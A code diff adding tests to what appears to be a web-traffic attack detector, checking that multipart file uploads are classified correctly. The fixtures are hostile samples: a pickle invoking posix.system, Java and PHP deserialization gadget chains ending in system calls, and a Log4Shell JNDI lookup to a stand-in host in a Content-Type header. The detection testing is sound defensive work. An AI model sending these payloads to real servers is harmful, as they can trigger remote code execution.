@@ -321,3 +321,62 @@ describe('batch bodies of any shape', () => {
     );
   });
 });
+
+describe('file parts that are serialized object streams, and part types that are no media type', () => {
+  /** The `classification@location` of every match of a one-file multipart body at level 1; the file's bytes given as latin1. */
+  function fileMatches(head: string, bytes: string): string[] {
+    const body = Buffer.concat([
+      Buffer.from(`--XX\r\nContent-Disposition: form-data; name="f"; filename="upload.bin"\r\n${head}\r\n\r\n`),
+      Buffer.from(bytes, 'latin1'),
+      Buffer.from('\r\n--XX--\r\n'),
+    ]);
+    return createAnalysisEngine({ catalog: false, detectionLevel: 1 })
+      .analyze(
+        buildExchange({ method: 'POST', target: '/import', requestHeaders: [['Content-Type', 'multipart/form-data; boundary=XX']], requestBody: body }),
+        { sensorId: 's', sensorTags: [] },
+      )
+      .filter((e): e is MatchEventRecord => e.msg_type === 'MatchEvent')
+      .flatMap((e) => e.matches.map((m) => `${m.classification}@${m.location}`));
+  }
+  const octets = 'Content-Type: application/octet-stream';
+
+  it.each([
+    [
+      'a pickled model that imports posix.system',
+      '\x80\x04\x95\x2a\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.',
+      'Deserialization',
+    ],
+    [
+      'a Java object stream naming a gadget class',
+      '\xac\xed\x00\x05sr\x00:org.apache.commons.collections.functors.InvokerTransformer\x87\xe8\xffk{|\xce8\x02\x00\x03',
+      'JavaInjection',
+    ],
+    [
+      'a PHP serialize() object with protected members',
+      'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":1:{s:9:"\x00*\x00events";O:15:"Faker\\Generator":1:{s:13:"\x00*\x00formatters";a:1:{s:8:"dispatch";s:6:"system";}}}',
+      'PhpInjection',
+    ],
+  ])('reads %s uploaded as a file', (_what, bytes, classification) => {
+    expect(fileMatches(octets, bytes)).toContain(`${classification}@upload`);
+  });
+
+  it.each([
+    [
+      'a pickled scikit-learn model',
+      '\x80\x04\x95\x40\x00\x00\x00\x00\x00\x00\x00\x8c\x14sklearn.linear_model\x94\x8c\x12LogisticRegression\x94\x93\x94)\x81\x94.',
+    ],
+    ['a PNG image', '\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00'],
+    ['a file of NUL and 0xff bytes', '\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00'],
+  ])('leaves %s alone', (_what, bytes) => {
+    expect(fileMatches(octets, bytes)).toEqual([]);
+  });
+
+  it("reads a part's Content-Type that is no media type as a value, and leaves media types with parameters out of the values", () => {
+    expect(fileMatches('Content-Type: ${jndi:ldap://x.example/a}', 'notes')).toContain('Log4Shell@body_multipart');
+    expect(fields('Content-Disposition: form-data; name="q"\r\nContent-Type: text/plain; charset="utf-8"')).toEqual([['q', 'hello']]);
+    expect(fields('Content-Disposition: form-data; name="q"\r\nContent-Type: ${jndi:ldap://x.example/a}')).toEqual([
+      ['q (Content-Type)', '${jndi:ldap://x.example/a}'],
+      ['q', 'hello'],
+    ]);
+  });
+});
